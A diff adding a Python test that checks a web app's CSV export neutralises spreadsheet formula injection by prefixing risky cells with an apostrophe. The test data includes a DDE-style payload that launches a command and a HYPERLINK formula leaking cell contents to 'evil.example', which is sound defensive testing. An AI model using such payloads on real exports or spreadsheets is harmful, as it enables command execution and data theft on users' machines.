@@ -109,6 +109,25 @@ def test_csv_export_has_the_filtered_rows_and_is_audited(client, world):
     assert "decisions_exported" in audit_actions()
 
 
+def test_csv_export_neutralises_cells_that_start_like_a_formula(client, world, make_decision,
+                                                              make_institution):
+    import csv
+    import io
+
+    evil = make_institution("school", name="@SUM(1+1)*cmd|' /C calc'!A0")
+    make_decision(world["group"], text='=HYPERLINK("http://evil.example/?x="&A1,"Sīkāk")',
+                  institution=evil)
+    make_decision(world["group"], text="-2+3 speciālisti", institution=world["school"])
+    client.login(world["coordinator"].email)
+    body = client.get(f"/groups/{world['group'].id}/decisions.csv").get_data(as_text=True)
+    cells = [c for row in csv.reader(io.StringIO(body.lstrip("\ufeff")), delimiter=";")
+             for c in row]
+    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Sīkāk\")" in cells
+    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
+    assert "'-2+3 speciālisti" in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
 def test_user_not_seeing_the_group_gets_404(client, world, make_user, make_institution):
     stranger = make_user("specialist", institution=make_institution("school"))
     client.login(stranger.email)
